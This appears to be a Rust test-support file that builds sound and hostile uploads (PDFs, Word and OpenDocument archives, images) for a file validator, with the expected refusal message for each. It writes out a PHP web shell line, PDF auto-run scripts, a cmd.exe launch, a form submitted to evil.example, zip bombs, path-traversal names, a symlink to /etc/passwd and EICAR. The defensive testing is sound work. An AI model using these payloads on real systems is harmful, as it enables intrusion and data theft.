//! The files of S8, made here byte by byte: sound ones of every kind, and what people of ill will make of them.

use crate::support::builders::{pdf, pdf_of};

/// An entry of a ZIP archive as it is written, lies included.
#[derive(Clone)]
pub struct Entry {
    pub name: Vec<u8>,
    /// The name in the directory, where it is another.
    pub listed: Option<Vec<u8>>,
    pub bytes: Vec<u8>,
    pub deflate: bool,
    /// The size that the directory tells, where it is no truth.
    pub told: Option<u32>,
    pub flags: u16,
    pub mode: u32,
    /// Where the directory says that it begins, where it does not.
    pub offset: Option<u32>,
}

pub fn entry(name: &str, bytes: &[u8]) -> Entry {
    Entry {
        name: name.as_bytes().to_vec(),
        listed: None,
        bytes: bytes.to_vec(),
        deflate: true,
        told: None,
        flags: 0,
        mode: 0o100_644,
        offset: None,
    }
}

pub fn stored(name: &str, bytes: &[u8]) -> Entry {
    Entry { deflate: false, ..entry(name, bytes) }
}

fn deflated(bytes: &[u8]) -> Vec<u8> {
    use std::io::Write;
    // The crate's writer, and from it the entry's data alone.
    let mut writer = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    let options = zip::write::SimpleFileOptions::default().compression_method(zip::CompressionMethod::Deflated);
    writer.start_file("x", options).unwrap();
    writer.write_all(bytes).unwrap();
    let archive = writer.finish().unwrap().into_inner();
    let packed = usize::try_from(u32::from_le_bytes(archive[18..22].try_into().unwrap())).unwrap();
    let extra = usize::from(u16::from_le_bytes(archive[28..30].try_into().unwrap()));
    archive[31 + extra..31 + extra + packed].to_vec()
}

fn crc32(bytes: &[u8]) -> u32 {
    let mut crc = u32::MAX;
    for byte in bytes {
        crc ^= u32::from(*byte);
        for _ in 0..8 {
            crc = if crc & 1 == 1 { (crc >> 1) ^ 0xedb8_8320 } else { crc >> 1 };
        }
    }
    !crc
}

fn count(length: usize) -> u32 {
    u32::try_from(length).unwrap()
}

/// A ZIP archive of these entries.
pub fn zip_of(entries: &[Entry]) -> Vec<u8> {
    let mut out = Vec::new();
    let mut directory = Vec::new();
    for entry in entries {
        let data = if entry.deflate { deflated(&entry.bytes) } else { entry.bytes.clone() };
        let size = entry.told.unwrap_or(count(entry.bytes.len()));
        let offset = entry.offset.unwrap_or(count(out.len()));
        let mut common = Vec::new();
        common.extend(20_u16.to_le_bytes());
        common.extend(entry.flags.to_le_bytes());
        common.extend(u16::from(if entry.deflate { 8_u8 } else { 0 }).to_le_bytes());
        common.extend(0x5b76_0000_u32.to_le_bytes());
        common.extend(crc32(&entry.bytes).to_le_bytes());
        common.extend(count(data.len()).to_le_bytes());
        common.extend(size.to_le_bytes());
        let named = |name: &[u8]| u16::try_from(name.len()).unwrap().to_le_bytes();
        out.extend(b"PK\x03\x04");
        out.extend(&common);
        out.extend(named(&entry.name));
        out.extend([0; 2]);
        out.extend(&entry.name);
        out.extend(data);
        let listed = entry.listed.as_ref().unwrap_or(&entry.name);
        directory.extend(b"PK\x01\x02");
        directory.extend([20, 3]);
        directory.extend(&common);
        directory.extend(named(listed));
        directory.extend([0; 8]);
        directory.extend((entry.mode << 16).to_le_bytes());
        directory.extend(offset.to_le_bytes());
        directory.extend(listed);
    }
    let start = count(out.len());
    out.extend(&directory);
    let entries = u16::try_from(entries.len().min(65_535)).unwrap();
    out.extend(b"PK\x05\x06\0\0\0\0");
    out.extend(entries.to_le_bytes());
    out.extend(entries.to_le_bytes());
    out.extend(count(directory.len()).to_le_bytes());
    out.extend(start.to_le_bytes());
    out.extend([0; 2]);
    out
}

const WORD: &str = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml";
const SHEET: &str = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml";

fn types(part: &str, kind: &str) -> Vec<u8> {
    format!(
        "<?xml version=\"1.0\"?><Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">\
         <Override PartName=\"/{part}\" ContentType=\"{kind}\"/></Types>"
    )
    .into_bytes()
}

/// The entries of a Word document, and more.
pub fn docx_with(more: &[Entry]) -> Vec<u8> {
    let mut entries = vec![
        entry("[Content_Types].xml", &types("word/document.xml", WORD)),
        entry("_rels/.rels", b"<Relationships/>"),
        entry("word/document.xml", b"<w:document><w:body/></w:document>"),
    ];
    entries.extend_from_slice(more);
    zip_of(&entries)
}

pub fn docx() -> Vec<u8> {
    docx_with(&[])
}

pub fn xlsx() -> Vec<u8> {
    zip_of(&[
        entry("[Content_Types].xml", &types("xl/workbook.xml", SHEET)),
        entry("_rels/.rels", b"<Relationships/>"),
        entry("xl/workbook.xml", b"<workbook/>"),
    ])
}

const ODT: &[u8] = b"application/vnd.oasis.opendocument.text";

pub fn odt_of(first: Entry, manifest: &[u8]) -> Vec<u8> {
    zip_of(&[first, entry("content.xml", b"<office:document-content/>"), entry("META-INF/manifest.xml", manifest)])
}

pub fn odt() -> Vec<u8> {
    odt_of(stored("mimetype", ODT), b"<manifest:manifest/>")
}

fn chunk(name: &[u8; 4], data: &[u8]) -> Vec<u8> {
    let named = [name.as_slice(), data].concat();
    [&count(data.len()).to_be_bytes()[..], &named, &crc32(&named).to_be_bytes()].concat()
}

/// A PNG that says it has so many dots.
pub fn png(width: u32, height: u32) -> Vec<u8> {
    let header = [&width.to_be_bytes()[..], &height.to_be_bytes(), &[8, 0, 0, 0, 0]].concat();
    let data = b"\x78\x9c\x62\x60\x00\x00\x00\x02\x00\x01";
    [&b"\x89PNG\r\n\x1a\n"[..], &chunk(b"IHDR", &header), &chunk(b"IDAT", data), &chunk(b"IEND", b"")].concat()
}

/// A JPEG that says it has so many dots.
pub fn jpeg(width: u16, height: u16) -> Vec<u8> {
    let mut out = b"\xff\xd8\xff\xe0\x00\x10JFIF\0\x01\x01\0\0\x01\0\x01\0\0".to_vec();
    out.extend(b"\xff\xc0\x00\x0b\x08");
    out.extend(height.to_be_bytes());
    out.extend(width.to_be_bytes());
    out.extend(b"\x01\x01\x11\0");
    out.extend(b"\xff\xda\x00\x08\x01\x01\x00\x00\x3f\x00\x12\xff\x00\x34\xff\xd0\x56\xff\xd9");
    out
}

/// What is sent, under which name, and what is said of it.
pub struct Case {
    pub what: &'static str,
    pub name: &'static str,
    pub bytes: Vec<u8>,
    pub says: &'static str,
}

const UNKNOWN: &str = "The file must be a PDF, Word";
const MISMATCH: &str = "ends as one kind of document";
const DAMAGED: &str = "damaged or not complete";
const LOCKED: &str = "protected by a password";
const ACTIVE: &str = "runs when it is opened";
const EMBEDDED: &str = "other files inside it";
const TWO: &str = "two kinds of document at once";
const GROWS: &str = "becomes too large";
const DOTS: &str = "The picture is too large";
const TRAILING: &str = "other data after its end";

/// The EICAR test text, in two parts so that no scanner takes this file for it.
pub fn eicar() -> Vec<u8> {
    [&br"X5O!P%@AP[4\PZX54(P^)7CC)7}$"[..], b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"].concat()
}

const CATALOG: &str = "<</Type/Catalog/Pages 2 0 R>>";

fn catalog(more: &str) -> Vec<u8> {
    pdf_of(&[&format!("<</Type/Catalog/Pages 2 0 R{more}>>")], "hostile")
}

fn replaced(bytes: &[u8], from: &str, to: &str) -> Vec<u8> {
    let text = String::from_utf8(bytes.to_vec()).unwrap();
    assert!(text.contains(from), "{from}");
    text.replace(from, to).into_bytes()
}

fn pdfs() -> Vec<Case> {
    let case = |what, bytes, says| Case { what, name: "a.pdf", bytes, says };
    let sound = pdf("x", "y");
    let before = |start: &[u8]| [start, &sound].concat();
    let attachment = "<</Type/Filespec/F(x.exe)/EF<</F 5 0 R>>>>";
    vec![
        case("a page of a website", b"<html><script>alert(1)</script></html>".to_vec(), UNKNOWN),
        case("a page with %PDF within", before(b"<html><script>alert(1)</script>"), UNKNOWN),
        case("a program of a web server with %PDF within", before(b"<?php system($_GET[0]); ?>"), UNKNOWN),
        case("a GIF with %PDF within", before(b"GIF89a"), UNKNOWN),
        case("one byte before %PDF", before(b"\n"), UNKNOWN),
        case("a page behind %PDF-", before(b"%PDF-1.4 <html><script>alert(1)</script>\n"), TWO),
        case("a server's program behind %PDF-", [&sound[..], b"<?php system($_GET[0]); ?>%%EOF"].concat(), TWO),
        case("PDF and ZIP", [&sound[..], &docx(), b"%%EOF"].concat(), TWO),
        case("PDF with a ZIP's end before its own", [b"%PDF-1.4\n", &docx()[..], &sound[9..]].concat(), TWO),
        case("only the beginning", b"%PDF-1.7".to_vec(), DAMAGED),
        case("cut off", sound[..sound.len() - 60].to_vec(), DAMAGED),
        case("its end 2 KB before the end", [&sound[..], &[b' '; 2048]].concat(), DAMAGED),
        case("no page", pdf_of(&["<</Type/Catalog/Pages 9 0 R>>"], "none"), DAMAGED),
        case("no object at all", b"%PDF-1.4\nhello\n%%EOF\n".to_vec(), DAMAGED),
        case("a password", replaced(&sound, "/Root 1 0 R", "/Root 1 0 R/Encrypt 4 0 R"), LOCKED),
        case("a script at opening", catalog("/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>"), ACTIVE),
        case("a script by name", catalog("/Names<</JavaScript<</Names[(a)4 0 R]>>>>"), ACTIVE),
        case("a script with its name in numbers", catalog("/OpenAction<</S/#4aava#53cript/#4a#53(x)>>"), ACTIVE),
        case("a program to start", catalog("/OpenAction<</S/Launch/F(cmd.exe)>>"), ACTIVE),
        case("a form that is sent", catalog("/AA<</WC<</S/SubmitForm/F(https://evil.example)>>>>"), ACTIVE),
        case("a form of XFA", catalog("/AcroForm<</XFA[]>>"), ACTIVE),
        case("a film", pdf_of(&[CATALOG, "<</Type/Annot/Subtype/RichMedia>>"], "x"), ACTIVE),
        case(
            "a script that no table of contents names",
            replaced(&sound, "xref\n", "9 0 obj<</S/JavaScript/JS(x)>>endobj\nxref\n"),
            ACTIVE,
        ),
        case("a file within", pdf_of(&[CATALOG, attachment], "x"), EMBEDDED),
        case("a file pinned to a page", pdf_of(&[CATALOG, "<</Type/Annot/Subtype/FileAttachment>>"], "x"), EMBEDDED),
        case("a tree of files", catalog("/Names<</EmbeddedFiles<</Names[]>>>>"), EMBEDDED),
        case("EICAR alone", eicar(), UNKNOWN),
        case("empty", Vec::new(), "The file is empty"),
        case("a picture that is called PDF", png(8, 8), MISMATCH),
        case("Word that is called PDF", docx(), MISMATCH),
        case("arrays in arrays, 20,000 deep", catalog(&format!("/X{}{}", "[".repeat(20_000), "]".repeat(20_000))), ""),
    ]
}

fn packages() -> Vec<Case> {
    let case = |what, bytes, says| Case { what, name: "a.docx", bytes, says };
    let with = |more: Entry| docx_with(&[more]);
    let many: Vec<Entry> = (0..2_001).map(|n| stored(&format!("word/{n}.bin"), b"")).collect();
    let nought = vec![0; 30 * 1024 * 1024];
    let bomb = entry("word/media/bomb.bmp", &nought);
    let link = Entry { mode: 0o120_777, ..stored("word/link", b"/etc/passwd") };
    let other = Entry { listed: Some(b"word/two.xml".to_vec()), ..entry("word/one.xml", b"x") };
    let twice = entry("word/document.xml", b"<other/>");
    let overlapping = Entry { offset: Some(0), ..entry("[Content_Types].xml", b"x") };
    let lies = Entry { told: Some(10), ..entry("word/liar.xml", &[b'x'; 100_000]) };
    let more = Entry { told: Some(900_000), ..entry("word/liar.xml", &[b'x'; 100_000]) };
    let huge = Entry { told: Some(0x0fff_ffff), ..entry("word/huge.xml", b"x") };
    let mut long_end = docx();
    long_end.extend(b"appended");
    let mut zip64 = docx();
    let end = zip64.len() - 22;
    zip64[end + 8..end + 12].fill(0xff);
    let macros = "application/vnd.ms-word.document.macroEnabled.main+xml";
    let docm = zip_of(&[
        entry("[Content_Types].xml", &types("word/document.xml", macros)),
        entry("word/document.xml", b"<w:document/>"),
    ]);
    let declared = [types("word/document.xml", WORD), types("xl/workbook.xml", SHEET)].concat();
    let both = zip_of(&[
        entry("[Content_Types].xml", &declared),
        entry("word/document.xml", b"<w:document/>"),
        entry("xl/workbook.xml", b"<workbook/>"),
    ]);
    let mut corrupt = docx();
    corrupt[60] ^= 0xff;
    vec![
        case("a bomb", with(bomb.clone()), GROWS),
        case("a bomb that lies about its size", with(Entry { told: Some(1_000), ..bomb }), DAMAGED),
        case("an entry larger than told", with(lies), DAMAGED),
        case("an entry smaller than told", with(more), DAMAGED),
        case("an entry of 256 MB by the directory", with(huge), GROWS),
        case("2,001 more entries", docx_with(&many), GROWS),
        case("a count of the 64-bit form", zip64, GROWS),
        case("a ZIP within", with(entry("word/inner.zip", &docx())), EMBEDDED),
        case("a ZIP within, called a picture", with(stored("word/media/a.png", &docx())), EMBEDDED),
        case("an object of a program", with(entry("word/embeddings/oleObject1.bin", b"\xd0\xcf\x11\xe0")), EMBEDDED),
        case("a symbolic link", with(link), EMBEDDED),
        case("a name that leads up", with(entry("../../evil", b"x")), DAMAGED),
        case("a name that leads up within", with(entry("word/../../evil", b"x")), DAMAGED),
        case("a name from the root", with(entry("/etc/cron.d/evil", b"x")), DAMAGED),
        case("a name with a drive", with(entry("C:evil", b"x")), DAMAGED),
        case("a name with a backslash", with(entry("..\\evil", b"x")), DAMAGED),
        case("a name with a NUL", with(entry("word/a\0.xml", b"x")), DAMAGED),
        case("a name that is no text", with(Entry { name: vec![0xff, 0xfe], ..entry("", b"x") }), DAMAGED),
        case("an empty name", with(entry("", b"x")), DAMAGED),
        case("two names for one entry", with(other), DAMAGED),
        case("the same name twice", with(twice), DAMAGED),
        case("the same name in capitals", with(entry("WORD/DOCUMENT.XML", b"x")), DAMAGED),
        case("overlapping entries", with(overlapping), DAMAGED),
        case("a password", with(Entry { flags: 1, ..entry("word/secret.xml", b"x") }), LOCKED),
        case("Word's own password", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1 EncryptedPackage".to_vec(), LOCKED),
        case("macros, renamed from DOCM", docm, ACTIVE),
        case("a project of macros", with(entry("word/vbaProject.bin", b"x")), ACTIVE),
        case("an ActiveX control", with(entry("word/activeX/activeX1.xml", b"x")), ACTIVE),
        case("a program", with(entry("word/media/a.emf", b"MZ\x90\0")), ACTIVE),
        case("a script", with(entry("word/run.vbs", b"x")), ACTIVE),
        case("entities that multiply", with(entry("word/x.xml", b"<!DOCTYPE x [<!ENTITY a 'b'>]><x>&a;</x>")), GROWS),
        case("something before it", [b"x", &docx()[..]].concat(), UNKNOWN),
        case("something after it", long_end, DAMAGED),
        case("Word and PDF", with(stored("%PDF-1.4", b"%PDF-1.4")), TWO),
        case("Word and Excel", both, TWO),
        case("no ZIP behind its beginning", b"PK\x03\x04 and nothing".to_vec(), DAMAGED),
        case("a ZIP of something else", zip_of(&[entry("readme.txt", b"hello")]), UNKNOWN),
        case("a quine's frame: an archive with nothing but itself", zip_of(&[stored("r/r.zip", &docx())]), EMBEDDED),
        case("a byte flipped", corrupt, DAMAGED),
        case("Excel that is called Word", xlsx(), MISMATCH),
        case("OpenDocument that is called Word", odt(), UNKNOWN),
        Case { what: "Word that is called Excel", name: "a.xlsx", bytes: docx(), says: MISMATCH },
        Case { what: "Word that is called OpenDocument", name: "a.odt", bytes: docx(), says: MISMATCH },
        Case { what: "an ODT packed", name: "a.odt", bytes: odt_of(entry("mimetype", ODT), b"<m/>"), says: DAMAGED },
        Case {
            what: "a drawing",
            name: "a.odt",
            bytes: odt_of(stored("mimetype", b"application/vnd.oasis.opendocument.graphics"), b"<m/>"),
            says: MISMATCH,
        },
        Case {
            what: "an ODT with a password",
            name: "a.odt",
            bytes: odt_of(stored("mimetype", ODT), b"<manifest:encryption-data/>"),
            says: LOCKED,
        },
        Case {
            what: "an ODT with macros",
            name: "a.odt",
            bytes: zip_of(&[stored("mimetype", ODT), entry("Basic/Standard/Module1.xml", b"x")]),
            says: ACTIVE,
        },
    ]
}

fn pictures() -> Vec<Case> {
    let case = |what, name, bytes, says| Case { what, name, bytes, says };
    let (small, photo) = (png(8, 8), jpeg(8, 8));
    let comment = [&b"\xff\xd8\xff\xfe\x00\x40<html><script>alert(1)</script>"[..], &[b' '; 31], &photo[2..]].concat();
    vec![
        case("20,000 dots square", "a.png", png(20_000, 20_000), DOTS),
        case("12,001 dots wide", "a.png", png(12_001, 1), DOTS),
        case("over 60 million dots", "a.png", png(12_000, 5_001), DOTS),
        case("a photograph of 65,535 dots", "a.jpg", jpeg(65_535, 65_535), DOTS),
        case("no dots", "a.png", png(0, 8), DAMAGED),
        case("a PNG with a ZIP behind", "a.png", [&small[..], &docx()].concat(), TRAILING),
        case("a PNG with a page behind", "a.png", [&small[..], b"<html>"].concat(), TWO),
        case("a PNG cut off", "a.png", small[..small.len() - 6].to_vec(), DAMAGED),
        case("a JPEG with a ZIP behind", "a.jpg", [&photo[..], &docx()].concat(), TRAILING),
        case("a JPEG with a script behind", "a.jpeg", [&photo[..], b"<?php"].concat(), TWO),
        case("a JPEG cut off", "a.jpg", photo[..photo.len() - 2].to_vec(), DAMAGED),
        case("a page in a JPEG's comment", "a.jpg", comment, TWO),
        case("SVG", "a.svg", b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>".to_vec(), UNKNOWN),
        case("SVG that is called PNG", "a.png", b"<svg onload='alert(1)'/>".to_vec(), UNKNOWN),
        case("GIF", "a.gif", b"GIF89a\x01\0\x01\0\0\0\0;".to_vec(), UNKNOWN),
        case("GIF that is called PNG", "a.png", b"GIF89a\x01\0\x01\0\0\0\0;".to_vec(), UNKNOWN),
        case("a JPEG that is called PNG", "a.png", photo, MISMATCH),
        case("a page", "a.html", b"<!doctype html><script>alert(1)</script>".to_vec(), UNKNOWN),
        case("a program", "a.exe", b"MZ\x90\0".to_vec(), UNKNOWN),
        case("a PDF without an ending", "accounts", pdf("x", "y"), UNKNOWN),
        case("a PDF with two endings", "accounts.pdf.exe", pdf("x", "y"), UNKNOWN),
        case("Word with macros by name", "a.docm", docx(), UNKNOWN),
    ]
}

/// Every file that must be refused, and how.
pub fn hostile() -> Vec<Case> {
    let mut cases = pdfs();
    cases.append(&mut packages());
    cases.append(&mut pictures());
    cases
}

/// Sound files of every kind, with their media types.
pub fn sound() -> Vec<(&'static str, Vec<u8>, &'static str)> {
    let chart = docx_with(&[stored("word/embeddings/Microsoft_Excel_Sheet1.xlsx", &xlsx())]);
    let panorama = [jpeg(8, 8), jpeg(4, 4), vec![0; 12]].concat();
    vec![
        ("a.pdf", pdf("a", "b"), "application/pdf"),
        ("a.docx", docx(), "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
        ("chart.docx", chart, "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
        ("a.xlsx", xlsx(), "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
        ("a.odt", odt(), "application/vnd.oasis.opendocument.text"),
        ("a.jpg", jpeg(800, 600), "image/jpeg"),
        ("camera.JPEG", panorama, "image/jpeg"),
        ("a.png", png(12_000, 5_000), "image/png"),
    ]
}
